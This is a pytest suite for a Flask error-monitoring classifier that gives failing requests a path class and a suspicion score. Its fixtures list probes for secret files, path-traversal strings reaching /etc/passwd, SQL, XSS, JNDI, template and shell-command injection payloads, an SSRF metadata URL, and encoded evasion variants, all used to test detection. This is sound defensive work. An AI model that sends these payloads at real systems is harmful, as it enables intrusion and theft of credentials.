"""The classification of a failing request: `agent`, `referrer`, `path_class`, `suspicion`."""

from __future__ import annotations

import gzip
import importlib.util
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flask_errwatch.capture.suspicion import (
    Match,
    Site,
    Suspicion,
    classify,
    own_words,
    split_target,
)
from flask_errwatch.capture.suspicion.agents import agent_kind
from flask_errwatch.capture.suspicion.referrers import referrer_kind

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SHARED = Path(__file__).parents[3] / "shared"


def asked(target: str, **changes: Any) -> Suspicion:
    """The classification of a 404 of `shop.example`, as an access log shows it."""
    path, query = split_target(target)
    request: dict[str, Any] = {
        "status": 404,
        "method": "GET",
        "path": path,
        "query": query,
        "host": "shop.example",
        "referrer": "",
        "agent": BROWSER,
        "match": Match.NONE,
        "site": Site(),
    }
    return classify(**{**request, **changes})


def what(target: str, **changes: Any) -> tuple[str, int]:
    """Only the path class and the suspicion."""
    return asked(target, **changes)[2:]


PROBES = [
    *("/.env", "/.git/config", "/api/.env.bak", "/.well-known/shell.php", "/.DS_Store", "/a/.ssh"),
    *("/index.php", "/a.PHP", "/x.php7", "/x.asp;.jpg", "/x.php.bak", "/index.php/admin", "/x.jsp"),
    *("/wp-login.php", "/wp-admin/", "/wordpress", "/blog/wp-content/x", "/xmlrpc", "/phpMyAdmin2"),
    *("/actuator/health", "/solr/", "/cgi-bin/luci", "/HNAP1", "/owa/auth", "/vendor/phpunit/x"),
    *("/backup.zip", "/dump.sql", "/site.tar.gz", "/db.sqlite3", "/app.py.old", "/settings.py~"),
    *("/config.json", "/docker-compose.prod.yml", "/aws-credentials.txt", "/api/secrets.yaml"),
    *("//wp-login.php", "/a//.env", "/%2eenv", "/%2Egit/config", "/id_rsa.key", "/_config.yml"),
    *("/id_rsa", "/keys/id_ed25519", "/web.config", "/Dockerfile", "/wls-wsat/CoordinatorPortType"),
    *("/phpinfo", "/stalker_portal/server/tools"),
]
ASSETS = [
    *("/favicon.ico", "/favicon-32x32.png", "/apple-touch-icon-120x120-precomposed.png"),
    *("/robots.txt", "/ROBOTS.TXT", "/sitemap.xml", "/sitemap_index.xml.gz", "/ads.txt"),
    *("/.well-known/security.txt", "/.well-known/traffic-advice", "/manifest.json", "/sw.js"),
]
INJECTIONS = [
    # Traversal, in all its encodings.
    *("/../../etc/hostname", "/a/%2e%2e/%2e%2e/b", "/%2E%2e%2fx", "/..%5c..%5cwin", "/..;/manager"),
    *("/a?file=../../x", "/a?f=%2e%2e%2fx", "/a?f=%252e%252e%252fx", "/%252e%252e/x", "/%252eenv"),
    *("/%c0%ae%c0%ae/x", "/a?f=%c0%ae%c0%af", "/%e0%80%ae/x", "/a?f=%25c0%25ae", "/static../x"),
    *(
        "/a/etc/passwd",
        "/a?f=/etc/passwd",
        "/A?F=/ETC/Passwd",
        "/a?f=/etc/hosts",
        "/a?f=%2fetc%2fhostname",
        "/a?f=c:%5cwin.ini",
        "/a%00.png",
    ),
    # SQL.
    *(
        "/a?id=1%27%20or%201=1",
        "/a?id=1'+OR+'1'='1",
        "/a?id=1+union+all+select+1",
        "/a?id=1+and+1=1",
    ),
    *(
        "/a?id=1/**/union/**/select/**/2",
        "/a?q=(select+1)",
        "/a?id=sleep(5)",
        "/a/-1%20OR%205*5=25",
    ),
    *("/a?id=1%27--", "/a?x=information_schema.tables", "/a?id=1;waitfor+delay+'0:0:5'"),
    # Scripts, templates, shells, PHP.
    *("/a?q=%3Cscript%3E", "/a?q=<ScRiPt>", "/a?q=%22onerror%3Dalert(1)", "/a?u=javascript:x"),
    *(
        "/a?q=${jndi:ldap://x}",
        "/a?q=%24%7B%24%7Blower:j%7Dndi",
        "/a?q={{7*7}}",
        "/a?q=%7b%7b7*7%7d%7d",
    ),
    *(
        "/a?c=;id",
        "/a?c=|cat+x",
        "/a?c=`whoami`",
        "/a?c=$(id)",
        "/a?c=wget+http://x",
        "/a?x=/bin/sh",
    ),
    *("/a?-d+allow_url_include%3d1", "/a?f=php://input", "/a?s=think%5capp/invokefunction"),
    *("/a?u=http://169.254.169.254/", "/a?q=%0d%0aSet-Cookie:x", "/a%0d%0ax"),
]
HARMLESS = [
    *(
        "/",
        "/about",
        "/a/b/c",
        "/shop/Item-4",
        "/user",
        "/css/shadow",
        "/blog/powershell-tips?a=1",
        "/a?q=2+and+3-bedroom+flats",
        "/a?onload=ready&x=(1)",
        "/console-table",
        "/news/2024/05",
        "/a.html",
    ),
    *(
        "/search?q=hello+world&page=2",
        "/a?q=O'Reilly+and+sons",
        "/a?q=rock+'n'+roll",
        "/a?b=1;id=2",
    ),
    *(
        "/a?next=https://shop.example/b",
        "/a?t=2024-05-01T10:00:00Z",
        "/a?q=select+a+seat",
        "/caf%c3%a9",
    ),
    *(
        "/%e0%a4%b9",
        "/{{ item.url }}",
        "/$%7Burl%7D",
        "/a?q=R%26D+%3E+2",
        "/a..b",
        "/v1.2.3",
        "/...",
    ),
    *(
        "/a?q=%E4%BD%A0",
        "/a?x=1&and=2",
        "/a%20b",
        "/main.css",
        "/img/a.png",
        "/a?wallet=0x1234567890ab",
    ),
]


# What people write and tools send, and what looks like an injection.
QUESTIONS = """
q=select+a+shirt+from+the+sale          q=select+shoes+from+brand     q=credit+union+selection
q=student+union+all+events              q=union+select+committee      q=order+by+1
return_url=https%3A%2F%2Fexample.com%2F next=/profile/../settings     next=..%2Fsettings
filter=a||b              fields=name|id|price     fields=name;id;price    q=fish;cat;dog
text=it's+or+not         name=O'Brien             name=O%27Brien%27s      q=6'+or+7'
q="hello"+or+"world"     q="red"+AND+(blue)       q='tis+or+'twas         q="and"
q="a";"b"                q="a"||"b"               q="x"--and+dash         q=a';+b
q=D'or+1st+parfume       jql=project="X"+AND+status="open"    $filter=name+eq+'a'+and+(age+gt+5)
filter={"a":{"or":[1]}}  json={"name":"or"}       where={"$or":[{"a":1}]} code=--
t=0x12345678             b=SGVsbG8%2BLz0%3D==     e=%F0%9F%98%80          q=100%25
q=sleep+(hours)          q=concat(a,b)            q=varchar(255)          q=system(s)
q=prompt(s)              q=alert+(important)      q=price:<object>        xml=<?xml+version="1.0"?>
q=(select+one)           q=curl+http+error        q=how+to+use+curl+-X    q=chmod+777
utm={{campaign.name}}&id={{site_source_name}}     x=${campaign:name}      x=$(window)
kw=%C0%B2%C0%BA          kw=%C1%F6%BF%AA          q=%C0%AE%B5%C4          q=%E4%BD%A0
body=Hi%0D%0ANote:+call  u=javascript:void(0)     mail=a@@b.example       q=cmd.exe
u=https%253A%252F%252Fexample%252Ecom%252Fa       file=file:///android_asset/a.html
q=edit+/etc/hosts
"""
PATHS = """
/javascript:void(0)  /page/javascript:;  /a%0A  /a%20%0A  /v1..v2  /a/.../b  /compare/v1...v2
/{{name}}  /$%7Burl%7D  /:80/a  /(x)  /a;b=1  /it's  /@user
"""
# What hides from a search for the plain text.
DISGUISES = [
    *("/a?f=%2e%2e%2fx", "/a?f=%252e%252e%252fx", "/a?f=....//....//x", "/a?f=..././..././x"),
    *("/a?id=1+union/*x*/select/*x*/1", "/a?id=1/*!50000union*/+/*!50000select*/+1", "/a%27||%27"),
    *(
        "/a?id=1%2527%2bor%2b1=1",
        "/a?id=1%27XOR(1)XOR%27Z",
        "/a?id=1%27or(1)--",
        "/a?id=1'+or+''='",
    ),
    *(
        "/a?id=CHR(98)||CHR(98)",
        "/a?id=1;declare+@q+int",
        "/a?q=(select(0)from(select(sleep(9)))v)",
    ),
    *(
        "/a?q=<svg/onload=alert(1)>",
        "/a?q=<img+src=x+onerror=y>",
        "/a?q=alert%601%60",
        "/a?q=<?=1",
    ),
    *(
        "/a?q={{''.__class__}}",
        "/a?q={{7%2b7}}",
        "/a?q=${${::-j}ndi:x}",
        "/a?q=%23{7*7}",
        "/a?o=O:8:%22x",
    ),
    *(
        "/a?c=$(whoami)",
        "/a?c=1;id",
        "/a?c=%7Cnslookup+x.example",
        "/a?c=;cat%20/x",
        "/a?c=cd+/tmp;x",
    ),
    "/autodiscover/autodiscover.json?@zdi/Powershell",
]


@pytest.mark.parametrize("query", re.split(r"\s{2,}|\n", QUESTIONS.strip()))
def test_a_harmless_query(query: str) -> None:
    """A failing search of a user on a route of the app is the app's own failure."""
    assert what(f"/search?{query}", match=Match.ROUTE) == ("own", 0)


@pytest.mark.parametrize("path", PATHS.split())
def test_a_harmless_path(path: str) -> None:
    """A broken link is 1 at most."""
    assert what(path) == ("unknown", 1)


@pytest.mark.parametrize("target", DISGUISES)
def test_a_disguised_injection(target: str) -> None:
    """What is encoded, commented or nested is found as well."""
    assert what(target, match=Match.ROUTE) == ("injection", 2)


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        # The site's own scripts and pages, after an update.
        ("/assets/app.8f3a.js", ("unknown", 1)),
        ("/user.html", ("unknown", 1)),
        ("/config.js", ("probe", 2)),
        ("/app.json", ("probe", 2)),
        # Words behind the name of a product.
        ("/blog/wordpress-or-drupal", ("unknown", 1)),
        ("/backup-codes", ("unknown", 1)),
        ("/setup-guide", ("unknown", 1)),
        ("/admin", ("unknown", 1)),
        ("/metrics", ("unknown", 1)),
        ("/env", ("unknown", 1)),
        ("/docker", ("unknown", 1)),
        ("/api/v1/users/login", ("unknown", 1)),
        # Well-known files, but no programs and nothing hidden beside them.
        ("/.well-known/autoconfig/mail/config-v1.1.xml", ("asset", 0)),
        ("/.well-known/appspecific/com.chrome.devtools.json", ("asset", 0)),
        ("/.well-known/a.asp", ("probe", 2)),
        ("/.well-known/.env", ("probe", 2)),
        ("/.well-known/x.PHP7", ("probe", 2)),
        ("/apple-touch-icon.php", ("probe", 2)),
        ("/favicon.ico/.env", ("probe", 2)),
        ("/sitemap.php", ("probe", 2)),
        ("/llms.txt", ("asset", 0)),
        ("/manifest.webmanifest", ("asset", 0)),
    ],
)
def test_names_that_are_near(target: str, expected: tuple[str, int]) -> None:
    """Ordinary names are told from those that they resemble."""
    assert what(target) == expected


@pytest.mark.parametrize("target", PROBES)
def test_a_probe(target: str) -> None:
    """What only a client that looks for weaknesses asks for is 2, also for a declared crawler."""
    assert what(target) == ("probe", 2)
    assert what(target, agent=GOOGLE) == ("probe", 2)


@pytest.mark.parametrize("target", PROBES)
def test_a_referrer_excuses_no_probe(target: str) -> None:
    """The client writes it."""
    assert what(target, referrer="https://shop.example/") == ("probe", 2)


@pytest.mark.parametrize("target", ASSETS)
def test_an_asset(target: str) -> None:
    """What clients ask for of their own accord is 0."""
    assert what(target) == ("asset", 0)


@pytest.mark.parametrize("target", INJECTIONS)
def test_an_injection(target: str) -> None:
    """A text that tries to be executed or to leave the folder is 2, also on a matched route."""
    assert what(target) == ("injection", 2)
    assert what(target, match=Match.ROUTE, agent=GOOGLE) == ("injection", 2)


@pytest.mark.parametrize("target", HARMLESS)
def test_an_unknown_path(target: str) -> None:
    """Any other path is 1, and 0 when a declared crawler asks or the own site links to it."""
    assert what(target) == ("unknown", 1)
    assert what(target, agent=GOOGLE) == ("unknown", 0)
    assert what(target, referrer="https://shop.example/x") == ("linked", 0)
    assert what(target, referrer="https://other.example/shop.example") == ("unknown", 1)


def test_the_precedence() -> None:
    """Injection before the route, the route before assets and probes, these before links."""
    own = {"match": Match.ROUTE, "referrer": "https://shop.example/"}
    assert what("/a?f=/etc/passwd", **own) == ("injection", 2)
    assert what("/.env", **own) == ("own", 0)
    assert what("/favicon.ico", **own) == ("own", 0)
    assert what("/nowhere", **own) == ("own", 0)
    assert what("/sitemap.xml", referrer="https://shop.example/") == ("asset", 0)


def test_a_single_step_up() -> None:
    """One `../` in a GET from the own site is a broken link. Two are not, nor is another method."""
    same = "https://shop.example/"
    for target in ("/a/../b", "/a/%2e%2e/b", "/a?to=../b"):
        assert what(target, referrer=same) == ("linked", 0)
        assert what(target) == ("injection", 2)
        assert what(target, referrer="https://other.example/") == ("injection", 2)
        assert what(target, referrer=same, method="POST") == ("injection", 2)
    assert what("/a/../../b", referrer=same) == ("injection", 2)
    assert what("/a/../etc/passwd", referrer=same) == ("injection", 2)


@pytest.mark.parametrize("status", [401, 402, 406, 408, 409, 415, 422, 429, 451, 499])
def test_a_status_without_suspicion(status: int) -> None:
    """Wrong passwords, refused values and limits have alarms of their own. The class is kept."""
    assert what("/.env", status=status) == ("probe", 0)
    assert what("/nowhere", status=status) == ("unknown", 0)
    assert what("/a?id=1'--", status=status) == ("injection", 0)


@pytest.mark.parametrize("status", [400, 403, 404, 405, 410, 413, 414, 500, 502, 503, 504, 599])
def test_a_status_with_suspicion(status: int) -> None:
    """Refusals and errors of the server."""
    assert what("/.env", status=status) == ("probe", 2)
    assert what("/nowhere", status=status) == ("unknown", 1)


@pytest.mark.parametrize("method", ["PROPFIND", "TRACE", "CONNECT", "get", "?", "", "\x16\x03\x01"])
def test_an_odd_method(method: str) -> None:
    """It is a probe, but not on a route: Office sends `PROPFIND` for linked pages."""
    assert what("/", method=method) == ("probe", 2)
    assert what("/", method=method, match=Match.TEXT, status=405) == ("probe", 2)
    assert what("/", method=method, match=Match.ROUTE, status=405) == ("own", 0)


def test_a_route_that_takes_any_text() -> None:
    """A page that `/<slug>` does not have is the app's own. A probe stays one."""
    assert what("/old-page", match=Match.TEXT) == ("own", 0)
    assert what("/wp-login.php", match=Match.TEXT) == ("probe", 2)
    assert what("/robots.txt", match=Match.TEXT) == ("asset", 0)


def test_what_the_app_has_is_not_foreign() -> None:
    """Extensions, names of products and hidden names of the app's own URL map are taken out."""
    rules = ["/legacy/<name>.php", "/console", "/.hidden/<x>", "/config.json", "/wp-json/v2"]
    site = Site(own=own_words(rules))
    for target in ("/a.php", "/a/console", "/.hidden/y", "/a/config.json", "/wp-json/v3"):
        assert what(target)[0] == "probe"
        assert what(target, site=site) == ("unknown", 1), target
    for target in ("/a.asp", "/shell", "/.env", "/secrets.json", "/wp-admin", "/a.php5"):
        assert what(target, site=site) == ("probe", 2), target


def test_a_route_for_any_name_with_an_extension() -> None:
    """A name of secrets with its extension is unknown. One file of the app excuses only itself."""
    data = Site(own=own_words(["/data/<name>.json"]))
    assert what("/user.json", site=data) == ("unknown", 1)
    assert what("/user.yml", site=data) == ("probe", 2)
    assert what("/user.json.bak", site=data) == ("probe", 2)
    one = Site(own=own_words(["/api/openapi.json"]))
    assert what("/openapi.json", site=one) == ("unknown", 1)
    assert what("/user.json", site=one) == ("probe", 2)


DECLARED = """
Googlebot-Image/1.0 GoogleOther AdsBot-Google bingbot/2.0 Applebot/0.1 YandexBot/3.0 DuckDuckBot/1.1
Baiduspider/2.0 facebookexternalhit/1.1 Twitterbot/1.0 Slackbot-LinkExpanding LinkedInBot/1.0
AhrefsBot/7.0 SemrushBot/7 MJ12bot/v1 PetalBot GPTBot/1.2 ClaudeBot/1.0 CCBot/2.0 Bytespider
Amazonbot/0.1 TelegramBot WhatsApp/2.23 Discordbot/2.0 PerplexityBot/1.0 DotBot/1.2
"""


@pytest.mark.parametrize(
    ("agent", "kind"),
    [
        ("", "empty"),
        ("-", "empty"),
        (BROWSER, "browser"),
        ("Opera/9.80 (X11) Presto/2.12 Version/12.16", "browser"),
        (GOOGLE, "crawler"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "crawler"),
        ("Mozilla/5.0 (compatible; OwnBot/1.0; +https://own.example/bot)", "crawler"),
        ("ELB-HealthChecker/2.0", "crawler"),
        *((name, "crawler") for name in DECLARED.split()),
        ("Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)", "crawler"),
        ("Mozilla/5.0 (iPhone) AppleWebKit/605 YandexSearch/23.1 Safari/604.1", "browser"),
        ("Mozilla/5.0 (iPhone) AppleWebKit/605 Mobile/15E148 [Pinterest/iOS]", "browser"),
        ("Mozilla/5.0 (Linux; Android 13) Chrome/120 NAVER(inapp; search)", "browser"),
        ("Mozilla/5.0 (Linux; Android 9; CUBOT_X19) Chrome/90 Safari/537.36", "browser"),
        ("okhttp/4.9.3", "library"),
        ("Google-HTTP-Java-Client/1.42 (gzip)", "library"),
        ("Mozilla/5.0 (compatible; Nuclei - Open-source project)", "scanner"),
        ("curl/8.5.0", "library"),
        ("python-requests/2.32.3", "library"),
        ("Go-http-client/1.1", "library"),
        ("Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/120.0.0.0", "library"),
        ("Something/1.0", "library"),
        ("Mozilla/5.0 zgrab/0.x", "scanner"),
        ("sqlmap/1.8#stable (https://sqlmap.org)", "scanner"),
        ("Fuzz Faster U Fool v2.1.0-dev", "scanner"),
        ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "scanner"),
    ],
)
def test_the_agent(agent: str, kind: str) -> None:
    """Who sends the request, as it says. A scanner that also gives an address stays one."""
    assert agent_kind(agent) == kind


@pytest.mark.parametrize(
    ("referrer", "host", "kind"),
    [
        ("", "shop.example", "none"),
        ("-", "shop.example", "none"),
        ("https://shop.example/a?b", "shop.example", "same"),
        ("http://SHOP.example:8080", "shop.EXAMPLE", "same"),
        ("https://shop.example./", "shop.example:443", "same"),
        ("http://[::1]:8000/a", "[::1]:8000", "same"),
        ("https://shop.example@evil.example/", "shop.example", "other"),
        ("https://shop.example.evil.example/", "shop.example", "other"),
        ("https://evil.example/#https://shop.example/", "shop.example", "other"),
        ("https://evil.example/?@shop.example/", "shop.example", "other"),
        ("android-app://shop.example", "shop.example", "other"),
        ("/a", "shop.example", "other"),
        ("https://xn--mnchen-3ya.example/", "xn--mnchen-3ya.example:443", "same"),
        ("https://www.shop.example/", "shop.example", "other"),
        ("http://[2001:DB8::1]/", "[2001:db8::1]:8000", "same"),
        ("http://[2001:db8::2]:80/", "[2001:db8::1]", "other"),
        ("https://shop.example\\@evil.example/", "shop.example", "other"),
        ("https://shop.example%2eevil.example/", "shop.example", "other"),
        ("about:blank", "", "other"),
        ("https://", "", "other"),
        ("https:///a", "", "other"),
    ],
)
def test_the_referrer(referrer: str, host: str, kind: str) -> None:
    """The own site is that whose host the request was sent to, whatever else the header has."""
    assert referrer_kind(referrer, host) == kind


@given(
    path=st.text(),
    query=st.text(),
    host=st.text(),
    referrer=st.text() | st.text().map("http://{}".format),
    agent=st.text(),
    method=st.text(),
    status=st.integers(400, 599),
)
def test_it_never_raises(status: int, **request: Any) -> None:
    """Whatever a client sends has four fields with documented values."""
    agent, referrer, kind, amount = classify(
        status=status, match=Match.NONE, site=Site(own=own_words([request["path"]])), **request
    )
    assert agent in {"browser", "crawler", "library", "scanner", "empty"}
    assert referrer in {"same", "other", "none"}
    assert kind in {"probe", "injection", "asset", "own", "linked", "unknown"}
    assert amount in {0, 1, 2}


@pytest.mark.parametrize(
    "piece",
    ["/", "../", "%25", "%2e", "'", "/a.b", "{{", "${", "select ", " ", "\xc0", "<", "~", ";"],
)
def test_what_is_beyond_a_bound_changes_nothing(piece: str) -> None:
    """64 KiB have the fields that their first 1,024 characters have, so the effort is bounded."""
    long, short = (piece * 65536)[:65536], (piece * 1024)[:1024]
    both = [
        asked("/", path=text, query=text, referrer=text, agent=text, host=text)
        for text in (long, short)
    ]
    assert both[0] == both[1]


# The reference.

LOGS = [*(SHARED / "data").glob("*/access.log.gz")]
_LINE = re.compile(
    r'^\S+ \S+ \S+ \[[^\]]+\] "((?:[^"\\]|\\.)*)" (\d{3}) \S+'
    r'(?: "((?:[^"\\]|\\.)*)" "((?:[^"\\]|\\.)*)")?'
)
_VARIABLE = re.compile(r"\d+|[0-9a-fA-F]{8,}|[0-9a-fA-F]{8}-(?:[0-9a-fA-F]{4}-){3}[0-9a-fA-F]{12}")


class Row(NamedTuple):
    """A line of an access log."""

    method: str
    target: str
    status: int
    agent: str

    @property
    def template(self) -> str:
        """The path with each segment of digits, hex or UUID as one placeholder."""
        segments = self.target.partition("?")[0].split("/")
        return "/".join("*" if _VARIABLE.fullmatch(part) else part for part in segments)


def rows(log: Path) -> Iterator[Row]:
    with gzip.open(log, "rt", errors="surrogateescape") as text:
        for line in text:
            match = _LINE.match(line)
            if match is not None:
                words = match[1].split(" ")
                is_request = len(words) == 3 and words[2].startswith("HTTP/")
                method, target = words[:2] if is_request else ("?", "/")
                yield Row(method, target, int(match[2]), match[4] or "")


def reference(module: Any, row: Row, *, is_own: bool, is_crawler: bool) -> tuple[str, int]:
    """What the measured classification says of the row."""
    path, _, query = row.target.partition("?")
    kind = module.path_class(row.method, path, query)
    if kind == "injection":
        return "injection", 2
    if is_own:
        return "own", 0
    if kind == "asset":
        return "asset", 0
    return ("unknown", 0 if is_crawler else 1) if kind == "other" else ("probe", 2)


@pytest.mark.skipif(not LOGS, reason="the logs are not part of the repository")
def test_the_measured_reference() -> None:
    """On four real logs the suspicion is that of the measured reference for 99.6 % of the failures.

    Where they differ:

    - Ours is `injection`, theirs is not: `(select 198766*667891)` in a path, dots encoded twice.
    - Ours is `probe`, theirs is `injection`, both 2: `/tmp/.env`, which theirs reads as a shell's.
    - Ours is `probe`, theirs is `unknown`: a method that no app has, `SSTP_DUPLEX_POST`; names
      that theirs lacks, such as `/stalker_portal` and `/phpinfo`.
    - Ours is `unknown`, theirs is `probe`: scripts and pages with ordinary names, such as `app.js`.
    - Ours is not `injection`, theirs is: `/tmp/` alone.
    """
    spec = importlib.util.spec_from_file_location(
        "reference", SHARED / "detection" / "classes_reference.py"
    )
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    kinds: Counter[tuple[tuple[str, int], tuple[str, int]]] = Counter()
    for log in LOGS:
        read = [*rows(log)]
        own = {row.template for row in read if 200 <= row.status < 300}
        for row in read:
            if row.status in {400, 403, 404, 405, 410, 413, 414} or row.status >= 500:
                is_own = row.template in own
                match = Match.ROUTE if is_own else Match.NONE
                ours = asked(
                    row.target, method=row.method, status=row.status, agent=row.agent, match=match
                )
                theirs = reference(module, row, is_own=is_own, is_crawler=ours.agent == "crawler")
                kinds[theirs, ours[2:]] += 1
    total = kinds.total()
    differs = {pair: count for pair, count in kinds.items() if pair[0] != pair[1]}
    assert total > 30_000
    assert sum(count for (theirs, ours), count in differs.items() if theirs[1] != ours[1]) < (
        0.004 * total
    )
    assert {(theirs[0], ours[0]) for theirs, ours in differs} <= {
        ("unknown", "injection"),
        ("probe", "injection"),
        ("injection", "probe"),
        ("unknown", "probe"),
        ("probe", "unknown"),
        ("injection", "unknown"),
    }
